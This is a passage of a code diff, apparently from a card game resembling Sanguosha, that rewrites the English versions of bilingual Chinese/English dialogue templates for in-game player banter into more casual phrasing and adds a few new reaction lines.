-		en: ["tough indeed; let us see for how long", "one got by; let us see the next"]
+		en: ["tough one, let's see how long it lasts", "dodged that one, let's see the next"]
 	},
 	how_long: {
 		zh: ["看这架势，还得打几圈", "说不准，倒下一个就快了", "快也快不了，先把这圈打完"],
 		en: [
-			"a few rounds more, from the look of it",
-			"hard to say; once somebody falls it goes fast",
-			"this round first, then we shall see"
+			"a few more rounds, by the look of it",
+			"hard to say, but once somebody falls it goes fast",
+			"it won't be quick. Let's finish this round first"
 		]
 	},
 	was_laid: {
 		zh: ["{why}，想动也动不了", "{why}，我有什么办法"],
-		en: ["{why}, so I could not move", "{why}; what could I do"]
+		en: ["{why}, so I couldn't move", "{why}. What could I do?"]
 	},
 	just_passed: {
 		zh: ["我那回合刚过，没出什么", "刚轮过我，没动"],
-		en: ["my turn has just gone by; I held still", "I have just had my turn, and let it pass"]
+		en: ["my turn just went by, and I held back", "I just had my turn and let it pass"]
 	},
 	hello_tired: {
 		zh: ["辛苦了，坐下打两把解解乏", "忙完了？那就开打", "来得正好，牌桌上歇一歇"],
 		en: [
-			"a long day, then; sit down and play",
-			"done for the day? Then let us begin",
-			"just in time; rest at the table"
+			"long day, huh? Sit down and play a couple",
+			"all done for today? Then let's play",
+			"good timing, take a break with some cards"
 		]
 	},
 	hello_fed: {
 		zh: ["吃的先放放，牌桌上见真章", "好，吃喝不误打牌"],
-		en: ["food can wait; to the cards", "eat or not, the cards are dealt"]
+		en: ["the food can wait, let's see some cards", "good, you can eat and play at the same time"]
 	},
 	surprised: {
 		zh: ["我也没料到这一出", "开眼了，谁想得到", "可不是，我也愣了一下"],
-		en: ["I did not see that coming either", "well, who would have thought", "indeed, that made me look twice"]
+		en: ["I didn't see that coming either", "wow, who would've thought", "right? That made me stop for a second too"]
 	},
 	dismayed: {
 		zh: ["唉，牌桌上的事，说不准的", "是够闹心的，还没完呢", "别叹气，后头还有得打"],
-		en: ["ah well, such is the table", "vexing, yes, but it is not over", "no sighs yet; there is more to come"]
+		en: [
+			"that's cards for you, you never know",
+			"it's annoying, I know, but it's not over yet",
+			"chin up, there's plenty of game left"
+		]
 	},
 	delighted: {
 		zh: ["看把你乐的", "别高兴太早，还没完呢", "行，让你先乐一会儿"],
-		en: ["look who is pleased", "not too soon; it is not over", "go on, enjoy it while it lasts"]
+		en: ["look how happy you are", "don't cheer too soon, it's not over", "fine, enjoy it while it lasts"]
 	},
 	idle: {
 		zh: ["都憋着呢，谁先动谁吃亏", "越是没动静越要当心", "歇够了，总有人先动手"],
 		en: [
-			"all are waiting for somebody to move",
-			"the quieter, the more care is due",
+			"everyone's holding back, waiting for somebody to move",
+			"the quieter it gets, the more careful I am",
 			"somebody will strike soon enough"
 		]
 	},
 	taken_in: {
 		zh: ["可不是，越打越有意思", "嗯，我都看在眼里", "这话有点意思，往下看"],
-		en: ["indeed, it grows on one", "yes, I have my eyes on it", "there is something in that; let us see"]
+		en: ["yeah, it keeps getting better", "yes, I've been watching all of it", "there's something in that, let's see"]
 	},
 	cannot_say: {
 		zh: ["这我可说不准", "问住我了，往下看吧", "这得打到后头才知道"],
-		en: ["that I could not say", "you have me there; let us see", "we shall know later"]
+		en: ["that I really can't say", "you've got me there, let's see", "we'll only know later in the game"]
 	},
 	laugh_bare: {
 		zh: ["哈哈，这桌是热闹", "可不是，这一出够看的", "乐归乐，牌还得打"],
-		en: ["ha, a lively table this is", "quite a show, indeed", "fun it is, but the cards go on"]
+		en: ["ha, this table is lively all right", "right, quite a show", "fun is fun, but we still have cards to play"]
 	},
 	tense: {
 		zh: ["是啊，一手比一手紧", "可不是，越打越有意思", "我这边也捏着把汗"],
-		en: ["yes, it gets tighter with every card", "indeed, the longer the better", "I hold my breath as well"]
+		en: [
+			"yeah, it gets tighter with every card",
+			"true, and it only gets better",
+			"I'm holding my breath over here too"
+		]
 	}
 };
 
@@ -31732,154 +34502,189 @@ const MOOD_WORDS = {
 const OWN_MATTER_WORDS = {
 	feat: {
 		zh: ["{why}，这一手利索", "{why}，漂亮，给你记一功", "看见了，{why}，有两下子"],
-		en: ["{why}; neatly done", "{why}; well struck, I note it to your credit", "I saw it: {why}. Not bad at all"]
+		en: ["{why}. Clean work", "{why}. Nice one, that's to your credit", "I saw it: {why}. Not bad at all"]
 	},
 	feat_kill: {
 		zh: ["干得利索，{who}一走，{count}", "{who}是{role}，收得漂亮，{count}", "这一刀收得好，{count}"],
-		en: ["neatly done; with {who} gone, {count}", "{who} was {role}; well struck, {count}", "a fine finish: {count}"]
+		en: [
+			"clean work. With {whom} gone, {count}",
+			"{who} {was} {role}. Nicely finished, and {count}",
+			"a good finish: {count}"
+		]
 	},
 	feat_wrong: {
 		zh: ["{who}可是{role}，这一刀收错人了吧", "{who}翻出来是{role}，你还高兴得起来？"],
-		en: ["{who} was {role}; are you sure that is a feat?", "{who} turned out {role}; I would not cheer"]
+		en: [
+			"{who} {was} {role}. Are you sure you got the right one?",
+			"{who} turned out to be {role}, and you're still happy about it?"
+		]
 	},
 	feat_on_me: {
 		zh: ["{why}，你高兴了，这账我记下了", "{why}，先别乐，还有下一圈呢"],
-		en: ["{why}; laugh now, I keep count", "{why}; do not cheer yet, there is another round"]
+		en: ["{why}. Enjoy it, I'm keeping count", "{why}. Don't cheer yet, there's another round"]
 	},
 	feat_bare: {
 		zh: ["行啊，这一手打得顺", "有两下子，接着来", "是你的功劳，大家都看见了"],
-		en: ["not bad, that went well", "nicely done; keep going", "the credit is yours, we all saw it"]
+		en: ["not bad, that went smoothly", "nice one, keep it up", "that's to your credit, we all saw it"]
 	},
 	luck_had: {
 		zh: ["手气不错，省着点用", "这运气，分我一点", "行，那你先稳着"],
-		en: ["lucky you; make it last", "some luck you have; lend me a little", "good for you; then you sit well"]
+		en: ["lucky you, make it last", "some luck you have. Lend me a bit", "good, then you're sitting pretty for now"]
 	},
 	plight_struck: {
 		zh: ["{why}，换谁都疼，先缓一口", "{why}，是够你受的，先保命", "看见了，{why}，先忍这一下"],
 		en: [
-			"{why}; that would hurt anybody, catch your breath",
-			"{why}; a hard blow, look after yourself first",
-			"I saw it: {why}. Swallow it for now"
+			"{why}. That would hurt anyone, catch your breath first",
+			"{why}. That's rough, stay alive first",
+			"I saw it: {why}. Sit tight for now"
 		]
 	},
 	plight_low: {
 		zh: ["{state}，是悬，先顾命", "{state}，这会儿可得省着打", "看见了，{state}，先别往前凑"],
 		en: [
-			"{state}; that is close, look to yourself first",
-			"{state}; go carefully now",
-			"I see: {state}. Stay back for a while"
+			"{state}. That's close, stay alive first",
+			"{state}. Play it safe for now",
+			"I see it: {state}. Keep your head down for a bit"
 		]
 	},
 	plight: {
 		zh: ["牌不由人，下一圈再补回来", "这手气换谁都得叹气，先稳住", "是够背的，熬过这圈就好"],
 		en: [
-			"the cards are not ours to choose; next round, then",
-			"such luck would make anybody sigh; hold on",
-			"hard luck; it turns again"
+			"you can't choose your cards, make up for it next round",
+			"luck like that would make anyone sigh, hang in there",
+			"rough luck, but it'll pass after this round"
 		]
 	},
 	plight_any: {
 		zh: ["别泄气，这局还没完", "谁都有这么一阵，挺过去就好", "我看也是，慢慢来"],
-		en: ["don't lose heart; it is not over", "it happens to everybody; hang on", "so it seems; one step at a time"]
+		en: [
+			"don't lose heart, it's not over yet",
+			"everyone has a spell like that, hang in there",
+			"looks that way to me too, take it slow"
+		]
 	},
 	relieved: {
 		zh: ["是够险的，下回未必有这运气", "好险，我都替你捏把汗", "躲过一回是一回"],
-		en: ["a narrow one indeed; do not count on the next", "close, I held my breath", "one more got by; enjoy it"]
+		en: [
+			"close one, don't count on that luck next time",
+			"phew, I was nervous for you",
+			"you dodged it once, enjoy it"
+		]
 	},
 	plan_cheered: {
 		zh: ["行，{why}，{who}就交给你", "{why}，该收，你动手吧", "{why}，要打我不拦"],
-		en: ["go on: {why}, so {who} {be} yours", "{why}; by all means strike", "{why}, so I have no objection"]
+		en: [
+			"go for it: {why}, so {who} {be} all yours",
+			"{why}. By all means, go ahead",
+			"{why}, so go ahead, I won't stop you"
+		]
 	},
 	plan_doubted: {
 		zh: ["{who}？我看未必该打，你想好了再动", "先等等，{who}不像该挨这一下的"],
-		en: ["{who}? I doubt that is the one to strike", "wait; {who} hardly deserves that"]
+		en: ["{who}? I'm not sure that's the one to hit. Think it over first", "wait a moment, that seems hard on {whom}"]
 	},
 	plan_watched: {
 		zh: ["{who}还没看清，你动手，我看着", "行，你先试试{who}，{state}", "要动{who}？{state}，掂量着来"],
 		en: [
-			"{who} is not clear to me yet; you strike, I watch",
-			"try {who} then: {state}",
-			"go for {who}? {state}; weigh it well"
+			"I can't read {whom} yet. You strike, I'll watch",
+			"all right, try {whom} then: {state}",
+			"going for {whom}? {state}, so think it over"
 		]
 	},
 	plan_noted: {
 		zh: ["行，你先来，我看着接", "好，那就看你这一手", "你出你的，我这边有数"],
-		en: ["fine, you first, and I follow", "all right, let us see it", "play yours; I know what I do"]
+		en: ["fine, you go first and I'll follow", "all right, let's see it", "you play yours, I know what I'm doing"]
 	},
 	threat_taken: {
 		zh: ["来就来，{state}，别手软", "{state}，接得住，放马过来", "冲我来？{state}，看谁先倒"],
 		en: [
-			"come on then: {state}",
-			"{state}, and I can take it; do your worst",
-			"at me? {state}; let us see who falls first"
+			"bring it on: {state}",
+			"{state}, and I can take it. Do your worst",
+			"me? {state}, so let's see who falls first"
 		]
 	},
 	threat_low: {
 		zh: ["{state}，你要收就收，收错了别后悔", "{state}，这一刀下来我可就没了，想清楚", "{state}，落井下石算什么本事"],
 		en: [
-			"{state}; take me if you must, and do not regret it",
-			"{state}; one more blow and I am gone, so think",
-			"{state}; kicking one who is down is no feat"
+			"{state}. Finish me if you want, just don't regret it",
+			"{state}. One more blow and I'm gone, so think it over",
+			"{state}. Kicking me when I'm down is no great feat"
 		]
 	},
 	threat_to_all: {
 		zh: ["我可不触这个霉头，看别人试", "行，惹不起，我绕着走", "话放这儿了，谁试谁知道"],
-		en: ["not me; let somebody else try", "fine, I go around you", "well said; whoever tries will find out"]
+		en: [
+			"not me, let someone else try",
+			"fine, I'll stay out of your way",
+			"well, you've said it. Whoever tries will find out"
+		]
 	},
 	excuse_heard: {
 		zh: ["{why}，你这么说，我先不往心里去", "{why}，嘴上说得轻巧，账先记着", "行，{why}，这回当你是无心"],
 		en: [
-			"{why}; as you put it, I will not mind for now",
-			"{why}; easily said, but I keep count",
-			"fine: {why}, and this once I take it as no offence"
+			"{why}. Since you put it that way, I won't take it to heart",
+			"{why}. Easily said, but I'm keeping count",
+			"fine, {why}, but I'll take it you didn't mean it"
 		]
 	},
 	excuse_other: {
 		zh: ["{why}，说得过去，看你下一手", "{why}，情有可原，就怕有人不这么想"],
-		en: ["{why}; that will pass, let us see your next", "{why}; fair enough, if others see it so"]
+		en: ["{why}. Fair enough, let's see your next move", "{why}. I get it, but not everyone will"]
 	},
 	excuse_bare: {
 		zh: ["行，这话我信一半，看你下一手", "有你的道理，别真打错人就行"],
-		en: ["half of that I believe; your next card tells", "you have your reasons; only mind whom you hit"]
+		en: ["I half believe that, let's see your next move", "you have your reasons. Just don't hit the wrong one"]
 	},
 	protest_borne: {
 		zh: ["{why}，先信你三分", "{why}，这话我信，往后接着看", "{why}，像那么回事"],
-		en: ["{why}, so I believe you for now", "{why}; I take your word, and watch on", "{why}; that fits what you say"]
+		en: [
+			"{why}, so I'll believe you for now",
+			"{why}. I take your word for it, but I'll keep watching",
+			"{why}. That does fit"
+		]
 	},
 	protest_open: {
 		zh: ["空口无凭，打两手出来我就信", "嘴上都这么说，看你下一手冲谁", "信不信先放着，别碰{kept}就好说"],
 		en: [
-			"words are cheap; two good cards and I believe you",
-			"everybody says so; your next card tells",
-			"leave {kept} alone and I may believe it"
+			"talk is cheap. Play a couple of cards and I'll believe you",
+			"everyone says that. Let's see who you go for next",
+			"we'll see. Leave {kept} alone and we're good"
 		]
 	},
 	trust_yes: {
 		zh: ["{why}，不疑你", "{why}，信你", "疑你做什么，{why}"],
-		en: ["{why}, so I do trust you", "{why}; no doubt of you", "why doubt you? {why}"]
+		en: ["{why}, so I don't doubt you", "{why}. I trust you", "why would I doubt you? {why}"]
 	},
 	trust_no: {
 		zh: ["{why}，你让我怎么信", "{why}，疑你不冤", "不敢信，{why}"],
-		en: ["{why}; how should I trust you", "{why}, so the doubt is fair", "I dare not: {why}"]
+		en: [
+			"{why}. How am I supposed to trust you?",
+			"{why}, so I have every reason to doubt you",
+			"I'd rather not: {why}"
+		]
 	},
 	trust_open: {
 		zh: ["还说不准，你再打一手给我看看", "半信半疑，看你下一手冲谁", "不好说，你没露过什么，我也没把话说死"],
 		en: [
-			"I cannot say yet; show me one more card",
-			"half and half; your next move decides",
-			"hard to say; you have shown little so far"
+			"can't say yet. Play one more card and let me see",
+			"I'm on the fence. Let's see who you go for next",
+			"hard to say. You haven't shown much, so I'm keeping an open mind"
 		]
 	},
 	luck_wished: {
 		zh: ["翻出来才知道，祝你一把过", "借你一口仙气，过！", "这得看牌堆给不给面子"],
-		en: ["good luck; it shows when it turns", "fingers crossed for you", "that is up to the deck; I wish you well"]
+		en: [
+			"we'll know when it's turned over. Good luck",
+			"fingers crossed for you",
+			"that's up to the deck, but good luck"
+		]
 	},
 	luck_not: {
 		zh: ["我贴的，可不盼你过", "你求你的，我求它中", "别求了，这一张我盼它中"],
 		en: [
-			"I laid it, so I hope it holds",
-			"you pray for it to pass, I pray it stays",
-			"spare your prayers; I want it to hold"
+			"I put it there, so I'm not wishing you luck",
+			"you pray to dodge it, I'll pray it hits",
+			"save your prayers, I want this one to hit"
 		]
 	}
 };
@@ -31889,58 +34694,81 @@ const REACTING_WORDS = {
 	retort: {
 		zh: ["{why}，没想瞒谁，账记我头上就是", "{why}不假，牌桌上的事，不服就打回来", "是，{why}，换你也得出这手"],
 		en: [
-			"{why}; I hide nothing, put it on my account",
-			"{why}, true, and you may pay it back",
-			"yes, {why}; you would have done the same"
+			"{why}. I'm not hiding it, put it on my tab",
+			"{why}, true. If you don't like it, hit me back",
+			"yes, {why}. You'd have done the same"
 		]
 	},
 	praised: {
 		zh: ["过奖，{why}，也是赶巧", "{why}，能入你眼就好", "{why}，这一手我自己也还满意"],
-		en: ["too kind; {why}, and luck helped", "{why}; I am glad you liked it", "{why}, and I am content with it myself"]
+		en: [
+			"too kind. {why}, and luck helped",
+			"{why}. Glad you liked it",
+			"{why}, and I'm quite happy with that one myself"
+		]
 	},
 	seen_you: {
 		zh: ["{why}，我看着呢，给你记一笔", "看见了，{why}，往后接着看", "{why}，这一手大家都看在眼里"],
 		en: [
-			"{why}; I saw it and keep it in mind",
-			"I saw it: {why}; let us see what follows",
-			"{why}, and everybody saw it"
+			"{why}. I saw that, and I'm making a note",
+			"I saw it: {why}. Let's see what comes next",
+			"{why}, and the whole table saw it"
 		]
 	},
 	grudge: {
 		zh: ["{why}，你倒先提，这账我记着呢", "还说呢，{why}，我可没忘"],
-		en: ["{why}; you bring it up yourself, and I have not forgotten", "you may well say so: {why}, and I remember"]
+		en: ["{why}. Funny you bring it up, I'm still keeping score", "look who's talking: {why}, and I haven't forgotten"]
 	},
 	missed: {
 		zh: ["这一手我没看着，真有的话我多留个心", "真有这事？我这边没瞧见，先听你的", "这桩我没印象，不敢跟着点头"],
 		en: [
-			"I missed that one; if so, I will watch for it",
-			"is that so? I did not see it, but I hear you",
-			"I do not recall that, so I cannot nod along"
+			"I missed that one, but if it's true I'll keep an eye out",
+			"really? I didn't see it, but I'll take your word for now",
+			"I don't remember that, so I can't just nod along"
 		]
 	},
 	not_mine: {
 		zh: ["真是我干的？我没这印象", "这一手我不记得做过，你再看看"],
-		en: ["was that me? I do not recall it", "I do not remember doing that; look again"]
+		en: ["was that really me? I don't remember it", "I don't remember doing that. Check again"]
 	},
 	not_on_me: {
 		zh: ["我身上没这一下，我自己最清楚", "落我头上了？我怎么不记得"],
-		en: ["nothing of the kind befell me, and I would know", "on me? I do not recall it"]
+		en: ["nothing like that happened to me, and I'd know", "to me? I don't remember that"]
 	},
 	hold_on: {
 		zh: ["{state}，稳着来", "知道，{state}，我心里有数", "{state}，这会儿急不得"],
-		en: ["{state}; steady now", "I know: {state}", "{state}; no haste now"]
+		en: ["{state}. Steady now", "I know: {state}", "{state}, so no rushing now"]
 	},
 	used_it: {
 		zh: ["{said}是我用的，自有用处", "{said}嘛，我用的，你接着看"],
-		en: ["{said} was mine, and not for nothing", "{said}, yes, mine; watch on"]
+		en: ["yes, I used {said}, and I had my reasons", "{said}? Yes, that was me. Keep watching"]
 	},
 	used_on: {
 		zh: ["{said}是{who}用的，冲着{them}", "{who}那手{said}，落在{them}头上"],
-		en: ["{who} used {said} on {them}", "the {said} of {who} went to {them}"]
+		en: ["{who} used {said} on {them}", "{said} came from {whom}, and it went to {them}"]
+	},
+	patience: {
+		zh: ["行，不急，再看一圈", "也好，看清了再说", "嗯，下一手见分晓"],
+		en: [
+			"fine, no hurry; let us see another round",
+			"fair enough; look first, then decide",
+			"right, the next card will tell"
+		]
+	},
+	undeserved: {
+		zh: ["谢错人了吧，我没给过你{said}", "这{said}可不是我出的，别记错了账"],
+		en: ["you're thanking the wrong one, it wasn't me who gave you {said}", "check again, I never gave you {said}"]
+	},
+	died_amid: {
+		zh: ["{who}那手{said}打出来，人就没了", "没人补刀，就是{who}的{said}那会儿倒的"],
+		en: [
+			"{who} played {said}, and that was the end of it",
+			"nobody landed a last blow, it happened when {who} played {said}"
+		]
 	},
 	as_is: {
 		zh: ["{state}，这一眼谁都看得见", "是，{state}，下一手就看冲谁了"],
-		en: ["{state}, as anybody can see", "yes, {state}; the next card will show"]
+		en: ["{state}, as anyone can see", "yes, {state}. Let's see where the next card goes"]
 	},
 	banter: { zh: ["{banter}"], en: ["{banter}"] }
 };
@@ -31949,263 +34777,283 @@ const REACTING_WORDS = {
 const TABLE_MATTER_WORDS = {
 	foretold: {
 		zh: ["还真让你说中了，{who}是{role}", "{who}是{role}，你这眼力可以", "服了，{who}果然是{role}"],
-		en: ["you called it: {who} was {role}", "{who} was {role}; a keen eye, yours", "granted, {who} was {role}"]
+		en: [
+			"you called it, {who} {was} {role}",
+			"{who} {was} {role}. You've got a good eye",
+			"fair play, {who} {was} {role} all along"
+		]
 	},
 	fallen: {
 		zh: ["{who}是{role}，这一走，{count}", "{who}没了，{count}", "可不是，{count}"],
-		en: ["{who} was {role}; with that, {count}", "{who} {be} gone: {count}", "so it is: {count}"]
+		en: ["{who} {was} {role}. With that, {count}", "{who} {be} gone, so {count}", "that's right: {count}"]
 	},
 	fishy_role: {
 		zh: ["{why}，{who}{is}{role}", "{why}，这还看不出来？{who}{is}{role}", "正是，{why}，{who}{is}{role}"],
 		en: [
-			"{why}: {who} {is} {role}",
-			"{why}; is that not plain? {who} {is} {role}",
-			"just so: {why}, and {who} {is} {role}"
+			"{why}, so {who} {is} {role}",
+			"{why}. Isn't it obvious? {who} {is} {role}",
+			"exactly, {why}, and {who} {is} {role}"
 		]
 	},
 	fishy_open: {
 		zh: ["{why}，这手是怪，再看他一圈", "{why}，光这一手还不好定，盯着点", "{why}，我也纳闷，先记一笔"],
 		en: [
-			"{why}; odd indeed, I give it one more round",
-			"{why}; that alone settles nothing, but keep watching",
-			"{why}; I wonder as well, and note it"
+			"{why}. Odd move, I'll give it another round",
+			"{why}. That alone proves nothing, but keep watching",
+			"{why}. It puzzles me too, so I'm making a note"
 		]
 	},
 	fishy_mine: {
 		zh: ["{why}，我有我的打算，接着看", "{why}，怎么，犯了哪条规矩", "{why}，一手牌就定罪？早了点"],
 		en: [
-			"{why}; I have my plan, watch on",
-			"{why}; is there a rule against it",
-			"{why}; one card, and I am condemned? Too early"
+			"{why}. I have my reasons, keep watching",
+			"{why}. So what, is there a rule against it?",
+			"{why}. Condemned over one card? Bit early for that"
 		]
 	},
 	fine_deed: {
 		zh: ["{why}，这一手是漂亮", "{why}，没话说", "可不是，{why}，够利索"],
-		en: ["{why}; a fine move", "{why}; nothing to add", "quite so: {why}, neatly done"]
+		en: ["{why}. A fine move", "{why}. Nothing to add", "right, {why}. Very neat"]
 	},
 	fine_bare: {
 		zh: ["是有点东西", "这一手我也服", "可以，看得过瘾"],
-		en: ["there is something in that", "I grant that one as well", "a pleasure to watch"]
+		en: ["there's something to that", "even I have to admire that one", "nice, that was fun to watch"]
 	},
 	praised_bare: {
 		zh: ["过奖，赶巧罢了", "你这么说，我可要翘尾巴了", "承你夸，下一手还看我的"],
-		en: ["too kind; luck had a hand in it", "careful, I may grow proud", "glad you liked it; watch the next one"]
+		en: ["too kind, I got lucky", "careful, it'll go to my head", "thanks, now watch the next one"]
 	},
 	paid_back: {
 		zh: ["{why}，一报还一报", "{why}在先，这下才算扯平", "怪我？{why}，你先动的手"],
 		en: [
-			"{why}, and that is what you got for it",
-			"{why}, and that came first; now we are even",
-			"blame me? {why}, so it was you who began"
+			"{why}, so you had it coming",
+			"{why}, and that came first. Now we're even",
+			"blame me? {why}, so you started it"
 		]
 	},
 	for_lord: {
 		zh: ["{why}，我这是替{lord}还手", "{why}，不打你打谁"],
-		en: ["{why}; that was for {lord}", "{why}, so whom else should I strike"]
+		en: ["{why}, so that was for {lord}", "{why}, so who else should I hit?"]
 	},
 	blamed: {
 		zh: ["牌桌上的事，下一手还我就是", "碰着你了？那会儿顾不上那么多", "算我手快，别往心里去"],
 		en: [
-			"such is the table; pay me back with your next",
-			"did that reach you? I could not mind everything",
-			"call it haste, and do not take it to heart"
+			"that's cards for you. Hit me back next turn",
+			"did I get you? I couldn't mind everything just then",
+			"I was too quick, don't take it to heart"
 		]
 	},
 	needled: {
 		zh: ["行，这话我记下了，牌上见", "急什么，好牌都留在后头", "笑我可以，牌在我手里"],
 		en: [
-			"noted; we shall see it in the cards",
-			"no hurry; the good ones come last",
-			"laugh if you like; I hold the cards"
+			"noted, I'll answer that with my cards",
+			"no hurry, I'm saving the good ones for last",
+			"laugh all you like, I'm the one holding the cards"
 		]
 	},
 	needled_deed: {
 		zh: ["{why}，怎么，不服？", "{why}，爱说就说，打都打了"],
-		en: ["{why}; do you mind?", "{why}; say what you like, it is done"]
+		en: ["{why}. Got a problem with that?", "{why}. Say what you like, it's done"]
 	},
 	laugh: {
 		zh: ["{why}，这一出够看的", "{why}，我也看乐了", "笑归笑，{why}，轮到谁都一样"],
-		en: ["{why}; quite a show", "{why}, and I had to smile as well", "laugh, but {why}; it may be any of us next"]
+		en: ["{why}, what a show", "{why}. I had to smile too", "laugh if you like: {why}. It could be any of us next"]
 	},
 	laugh_mine: {
 		zh: ["{why}，挨的是我，笑轻点", "别笑，{why}，回头轮到你"],
-		en: ["{why}, and it was on me, so laugh softly", "do not laugh: {why}, and your turn may come"]
+		en: ["{why}, and I'm the one who took it, so don't laugh too loud", "don't laugh: {why}. Your turn will come"]
 	},
 	calmed: {
 		zh: ["我不急，账我记着呢", "行，我先压一压", "没事，我心里有数"],
-		en: ["I am calm; I only keep count", "very well, I hold back for now", "no matter, I know what I do"]
+		en: ["I'm calm, I'm just keeping count", "all right, I'll hold back for now", "it's fine, I know what I'm doing"]
 	},
 	avenged: {
 		zh: ["那就拜托了，替我讨回来", "有你这话，这顿打没白挨", "好，这账就指着你了"],
-		en: ["then pay them back for me", "with that said, the blows hurt less", "good; that score is yours to settle"]
+		en: [
+			"then pay them back for me, I'm counting on you",
+			"with you saying that, it hurts less",
+			"good, that one's yours to settle"
+		]
 	},
 	pitied: {
 		zh: ["别提了，{why}", "{why}，谢你还惦记", "{why}，先熬着呗"],
-		en: ["don't mention it: {why}", "{why}; kind of you to care", "{why}; I bear it for now"]
+		en: ["don't even mention it: {why}", "{why}. Kind of you to think of me", "{why}. I'll just have to grit my teeth"]
 	},
 	pity: {
 		zh: ["{why}，换谁都够呛", "是够惨的，{why}", "{why}，{who}这一下不好受"],
-		en: ["{why}; hard on anybody", "a pity indeed: {why}", "{why}; that must have hurt"]
+		en: ["{why}. That's rough on anyone", "that's really rough: {why}", "{why}. That must have hurt"]
 	},
 	pity_state: {
 		zh: ["{state}，是不好过", "{state}，看着都替他捏把汗"],
-		en: ["{state}; no easy place to be", "{state}; one has to feel for that"]
+		en: ["{state}. Not an easy spot to be in", "{state}. Makes me nervous just looking"]
 	},
 	stands_low: {
 		zh: ["{state}，是不多了", "{state}，得当心了", "{state}，悬着呢"],
-		en: ["{state}; that is not much", "{state}; a time for care", "{state}; it hangs by a thread"]
+		en: ["{state}. That's not much", "{state}. Time to be careful", "{state}, and that's hanging by a thread"]
 	},
 	stands_well: {
 		zh: ["{state}，还早着呢", "{state}，一时半会儿倒不了", "{state}，是打得起"],
-		en: ["{state}; a long way to go", "{state}; no danger for now", "{state}, and can afford it"]
+		en: ["{state}. Still a long way to go", "{state}, so no danger for now", "{state}, so a few hits won't matter"]
 	},
 	mine_low: {
 		zh: ["{state}，得省着点挨", "{state}，撑着呗", "{state}，谁有桃匀一个"],
-		en: ["{state}; I cannot take much more", "{state}; I hang on", "{state}; a Peach, anybody?"]
+		en: ["{state}. I can't take much more", "{state}. I'm hanging on", "{state}. Anyone got a Peach?"]
 	},
 	mine_well: {
 		zh: ["{state}，还撑得住", "{state}，打得起", "不打紧，{state}"],
-		en: ["{state}; I can take it", "{state}, so I can afford it", "no harm: {state}"]
+		en: ["{state}. I can take it", "{state}, so I can afford it", "no worries, {state}"]
 	},
 	their_cards: {
 		zh: ["{hand}，谁有拆谁拆一张", "{hand}，憋着大的呢，当心", "是，{hand}，看他怎么打"],
-		en: ["{hand}; a Dismantle would do no harm", "{hand}; something is coming, take care", "yes, {hand}; let us see"]
+		en: [
+			"{hand}. Somebody should dismantle one",
+			"{hand}. Something big is coming, watch out",
+			"yes, {hand}. Let's see what comes of it"
+		]
 	},
 	no_cards: {
 		zh: ["{hand}，谁都看得见", "是，{hand}，全靠硬扛"],
-		en: ["{hand}, as anybody can see", "yes, {hand}; nothing but courage left"]
+		en: ["{hand}, as anyone can see", "yes, {hand}. Nothing left but guts"]
 	},
 	mine_cards: {
 		zh: ["{hand}，该出的时候自然出", "{hand}，留着防身"],
-		en: ["{hand}, played when it is time", "{hand}; one needs some cover"]
+		en: ["{hand}. I'll play when it's time", "{hand}. I need some cover"]
 	},
 	cared: {
 		zh: ["放心，{state}，撑得住", "谢你提醒，{state}，我有数", "嗯，{state}，我小心着"],
-		en: ["rest easy: {state}, and I hold", "thanks for the warning; {state}, I know", "yes, {state}; I take care"]
+		en: [
+			"don't worry. {state}, and I'm holding up",
+			"thanks for the warning. {state}, I know",
+			"yes, {state}. I'll be careful"
+		]
 	},
 	cared_all: {
 		zh: ["说得在理，先看清再动手", "是这个理，都稳着点", "听你的，不急着动"],
-		en: ["sound advice; look before you strike", "quite right, steady all", "agreed, no hasty moves"]
+		en: ["good advice, look before you hit", "quite right, everyone steady now", "agreed, no rushing into it"]
 	},
 	no_surrender: {
 		zh: ["投什么投，{state}，还没打完", "不投，{state}，有本事来收", "{state}，叫我投？早了点"],
-		en: ["give up? {state}, and it is not over", "no: {state}; come and get me", "{state}; too early to ask for that"]
+		en: [
+			"give up? {state}, and it's not over",
+			"no way, {state}. Come and get me",
+			"{state}, and you want me to give up? Bit early"
+		]
 	},
 	theirs_to_say: {
 		zh: ["投不投得问{who}，{state}", "{state}，{who}肯投才怪"],
-		en: ["that is for {who} to say: {state}", "{state}; I doubt it"]
+		en: ["you'd have to ask {whom}: {state}", "{state}. I doubt it"]
 	},
 	not_me: {
 		zh: ["打我？{why}，这像该打的么", "{why}，有力气留着打反贼"],
-		en: ["strike me? {why}; does that deserve it", "{why}; save your blows for the rebels"]
+		en: ["hit me? {why}. Does that deserve it?", "{why}, so save your blows for the rebels"]
 	},
 	not_me_bare: {
 		zh: ["打我做什么，我可没动过{lord}", "冲我来可以，打错了谁赔"],
-		en: ["why me? I never touched {lord}", "at me, if you like; who pays if you are wrong?"]
+		en: ["why me? I've never touched {lord}", "hit me if you like, but who pays if you're wrong?"]
 	},
 	not_me_low: {
 		zh: ["{state}，何苦盯着我", "{state}，打我能顶什么用", "{state}，放我一马，先看别人"],
-		en: [
-			"{state}; why pick on me",
-			"{state}; what use is it to strike me",
-			"{state}; let me be and look at the others"
-		]
+		en: ["{state}. Why pick on me?", "{state}. What good is hitting me?", "{state}. Let me off and look at the others"]
 	},
 	lumped: {
 		zh: ["别急着把我算进去，{why}", "算我一个？{why}，再数数"],
-		en: ["do not count me in so fast: {why}", "me among them? {why}; count again"]
+		en: ["don't count me in so fast: {why}", "me, one of them? {why}, so count again"]
 	},
 	lumped_bare: {
 		zh: ["别急着把我算进去，再看一圈", "算我一个？你这账算早了"],
-		en: ["do not count me in so fast; give it a round", "me among them? You reckon too early"]
+		en: ["don't count me in so fast, give it another round", "me, one of them? Isn't that a bit early?"]
 	},
 	advise_hit: {
 		zh: ["先{who}，{why}", "打{who}，{why}", "换我就打{who}，{why}"],
-		en: ["{who} first: {why}", "strike {who}; {why}", "I would go for {who}: {why}"]
+		en: ["go for {whom} first: {why}", "hit {whom}: {why}", "I'd go for {whom}: {why}"]
 	},
 	advise_low: {
 		zh: ["先{who}，{state}，好收", "挑{who}，{state}"],
-		en: ["{who} first: {state}", "take {who}: {state}"]
+		en: ["start with {whom}: {state}, easy to finish", "pick {whom}: {state}"]
 	},
 	advise_not: {
 		zh: ["{who}先别动，{why}", "别打{who}，{why}"],
-		en: ["leave {who} alone: {why}", "not {who}: {why}"]
+		en: ["leave {whom} alone: {why}", "don't hit {whom}: {why}"]
 	},
 	advise_wait: {
 		zh: ["都没露底，先攒一手看看", "别急着动，看谁先碰{lord}", "先装备上，看清了再打"],
 		en: [
-			"nobody has shown yet; save your cards",
-			"wait and see who touches {lord} first",
-			"equip first, and strike once it is clear"
